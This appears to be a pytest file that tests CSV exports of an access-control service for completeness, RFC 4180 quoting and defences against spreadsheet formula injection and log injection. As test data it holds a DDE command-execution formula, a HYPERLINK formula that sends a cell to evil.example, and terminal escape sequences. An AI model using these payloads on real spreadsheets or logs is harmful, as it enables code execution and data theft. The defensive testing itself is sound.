"""Lists as CSV: every row, as a spreadsheet may open it without harm."""

from __future__ import annotations

import csv
import io
import json
import logging
from typing import Any
from urllib.parse import quote

import pytest
from aiohttp import ClientError

from accessguard.errors import ErrorCode, GuardError
from accessguard.logs import JsonLines
from tests.console.test_console import signed_in
from tests.service import FIREFOX, Answer, Tenant

CSV = {"Accept": "text/csv"}


async def table(tenant: Tenant, path: str, role: str = "supervisor") -> tuple[Answer, list[dict[str, str]]]:
    """The answer, and its rows by column."""
    answer = await tenant.call("GET", path, role=role, headers=CSV)
    assert answer.status == 200, answer.body
    return answer, list(csv.DictReader(io.StringIO(answer.body.decode(), newline="")))


@pytest.mark.parametrize(
    ("path", "role"),
    [
        ("/v1/members", "supervisor"),
        ("/v1/members", "attendant"),
        ("/v1/members/ana/logins", "supervisor"),
        ("/v1/members/ana/sessions", "supervisor"),
        ("/v1/members/ana/activity", "supervisor"),
        ("/v1/members/ana/devices", "supervisor"),
        ("/v1/members/ana/violations", "supervisor"),
        ("/v1/members/ana/enrolments", "supervisor"),
        ("/v1/violations", "supervisor"),
        ("/v1/audit", "administrator"),
        ("/v1/tenants", "root"),
    ],
)
async def test_every_list_is_given_as_csv_too(tenant: Tenant, path, role):
    """With the columns and the values of its items, and kept by nobody on the way."""
    login = await tenant.login()
    await tenant.login(user_agent=FIREFOX)
    await tenant.check(login, activity="lesson_open")
    await tenant.call("PUT", "/v1/members/ana/enrolments/p", {"starts_at": "2026-01-01T00:00:00Z", "reason": "=1+1"})
    await tenant.call("PATCH", "/v1/members/ana", {"tags": ["vip"]}, role="supervisor")
    await tenant.rule("ip_deny", networks=["203.0.113.0/24"])
    await tenant.check(login)

    answer, rows = await table(tenant, path, role)
    whole = await tenant.call("GET", path + "?limit=200", role=role)

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert (answer.headers["Cache-Control"], answer.headers["X-Content-Type-Options"]) == ("no-store", "nosniff")
    if path != "/v1/tenants":
        assert len(rows) == len(whole["items"]) >= 1
    assert [*rows[0]] == [*whole["items"][0]]
    if path not in {"/v1/tenants", "/v1/members"}:
        for row, item in zip(rows, whole["items"], strict=True):
            assert row == {name: _written(value) for name, value in item.items()}


def _written(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, (dict, list, bool)):
        return json.dumps(value, separators=(",", ":"), ensure_ascii=False)
    return str(value)


@pytest.mark.parametrize(
    "name",
    [
        '=cmd|"/c calc"!A1',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        '=HYPERLINK("http://evil.example?x="&A1;"click")',
    ],
)
async def test_no_cell_is_a_formula(tenant: Tenant, name):
    """A student's name runs nothing on the computer of support (OWASP, CSV Injection)."""
    await tenant.call("PUT", "/v1/members/ana", {"name": name, "email": name})

    _, (row,) = await table(tenant, "/v1/members")

    assert row["name"] == f"'{name}"
    assert row["email"] == f"'{name}"


@pytest.mark.parametrize(
    "name", ['a "quoted" name', "a, b; c", "two\r\nlines", "two\nlines", "😀 אנה \u202e", "a'b", "1-2", "x=y"]
)
async def test_an_ordinary_name_is_left_as_it_is(tenant: Tenant, name):
    """However it has to be quoted (RFC 4180)."""
    await tenant.call("PUT", "/v1/members/ana", {"name": name, "tags": [name, "=1"]})

    _, (row,) = await table(tenant, "/v1/members")

    assert row["name"] == name
    assert json.loads(row["tags"]) == [name, "=1"]


async def test_every_row_is_in_the_file_however_many_there_are(tenant: Tenant):
    """Neither `limit` nor the size of a page cuts it, and it holds each once."""
    from tests.build import NOW

    await tenant.login()
    statement = """
        INSERT INTO member (tenant, id, name, created_at)
        SELECT $1, 'm' || n, 'same name', $2 FROM generate_series(1, 1100) n
    """
    await tenant.service.context.members._db.fetch(statement, tenant.name, NOW)

    _, rows = await table(tenant, "/v1/members?sort=name&limit=10")

    assert len(rows) == 1101
    assert len({row["member_id"] for row in rows}) == 1101


async def test_filters_and_order_hold_for_the_file(tenant: Tenant):
    """It is the same list."""
    for name in ("Ana", "Zoe", "Ben"):
        await tenant.call("PUT", f"/v1/members/{name.lower()}", {"name": name, "tags": ["x"] if name != "Zoe" else []})

    _, rows = await table(tenant, "/v1/members?sort=name&order=desc&tag=x")

    assert [row["name"] for row in rows] == ["Ben", "Ana"]


async def test_an_empty_list_is_a_header(tenant: Tenant):
    """So that a program finds its columns."""
    answer, rows = await table(tenant, "/v1/violations")

    assert rows == []
    assert answer.body.startswith(b"id,code,rule_id,")


async def test_what_is_refused_is_refused_as_ever(tenant: Tenant):
    """A problem document, whatever was asked for."""
    answers = [
        await tenant.call("GET", "/v1/violations", role="attendant", headers=CSV),
        await tenant.call("GET", "/v1/members?limit=x", role="supervisor", headers=CSV),
        await tenant.call("GET", "/v1/members/nobody/logins", role="supervisor", headers=CSV),
    ]

    assert [answer.status for answer in answers] == [403, 400, 404]
    assert {answer.headers["Content-Type"].partition(";")[0] for answer in answers} == {"application/problem+json"}


async def test_a_file_that_cannot_be_finished_is_cut_off(tenant: Tenant):
    """Its reader is told that it is broken, instead of taking a part for the whole."""
    from tests.build import NOW

    await tenant.login()
    statement = """
        INSERT INTO member (tenant, id, created_at) SELECT $1, 'm' || n, $2 FROM generate_series(1, 1500) n
    """
    context = tenant.service.context
    await context.members._db.fetch(statement, tenant.name, NOW)
    listed, portions = context.directory.listed, 0

    async def failing(*args: Any, **more: Any) -> Any:
        nonlocal portions
        portions += 1
        if portions > 1:
            raise GuardError(ErrorCode.UNAVAILABLE, "out")
        return await listed(*args, **more)

    context.directory.listed = failing  # type: ignore[method-assign]
    try:
        with pytest.raises(ClientError):
            await tenant.call("GET", "/v1/members", role="supervisor", headers=CSV)
    finally:
        context.directory.listed = listed  # type: ignore[method-assign]

    assert portions == 2


LISTS = {
    "/v1/members": "supervisor",
    "/v1/members/{}/logins": "supervisor",
    "/v1/members/{}/sessions": "supervisor",
    "/v1/members/{}/activity": "supervisor",
    "/v1/members/{}/devices": "supervisor",
    "/v1/members/{}/violations": "supervisor",
    "/v1/members/{}/enrolments": "supervisor",
    "/v1/violations": "supervisor",
    "/v1/audit": "administrator",
}


@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", '+cmd|" /C calc"!A0', "\t=1\r\n=2"])
async def test_no_text_that_a_member_or_a_platform_controls_is_a_formula_in_any_file(tenant: Tenant, text):
    """Ids, user names, user agents, reasons, apps, pages, products and comments, in the console's files as well."""
    there = {"app": text, "user_agent": text, "client_hints": {"Sec-CH-UA-Model": text}}
    login = await tenant.login(text, session_id=text, identifier=text, **there)
    await tenant.login(text, outcome="failure", failure_reason=text, identifier=text, **there)
    await tenant.check(login, activity="lesson_open", resource=text, product_id=text, user_agent=text)
    await tenant.call("PUT", f"/v1/members/{quote(text, safe='')}", {"name": text, "email": text, "tags": [text]})
    dates = {"starts_at": "2026-01-01T00:00:00Z", "reason": text}
    await tenant.call("PUT", f"/v1/members/{quote(text, safe='')}/enrolments/{quote(text, safe='')}", dates)
    await tenant.rule("ip_deny", networks=["203.0.113.0/24"])
    await tenant.check(login)
    said = {"text": text}
    await tenant.call("POST", f"/v1/members/{quote(text, safe='')}/comments", said, role="supervisor")
    browser = await signed_in(tenant, "administrator")

    files = [(await table(tenant, path.format(quote(text, safe="")), role))[1] for path, role in LISTS.items()]
    for page in ("contacts", "restrictions", "activity"):
        shown = await browser.get(f"/console/{page}.csv")
        assert shown.status == 200
        files.append(list(csv.DictReader(io.StringIO(shown.text, newline=""))))
    cells = [cell for rows in files for row in rows for cell in row.values() if not number(cell)]

    assert [len(rows) for rows in files if not rows] == []
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))] == []
    assert sum(text in cell for cell in cells) > 10


def number(cell: str) -> bool:
    """Whether a spreadsheet takes it for a number, the sign included."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "text", ['x"}\n{"event":"admin signed in"', "\r\n\x1b[2J\x1b]0;owned\x07", "\u2028\u202e", "\0"]
)
def test_no_text_of_a_caller_begins_a_line_of_the_log(text):
    """Whatever libraries and failures bring: one line of JSON, nothing that a terminal obeys, and not the text of the failure."""
    failure = (ValueError, ValueError(text), None)
    record = logging.LogRecord(text, logging.ERROR, text, 1, "%s failed", (text,), failure)

    line = JsonLines().format(record)

    assert line.isprintable() or text == "\u2028\u202e"
    assert len(line.split("\n")) == 1
    assert json.loads(line)["event"] == "%s failed"
    assert json.loads(line)["error"] == "ValueError"
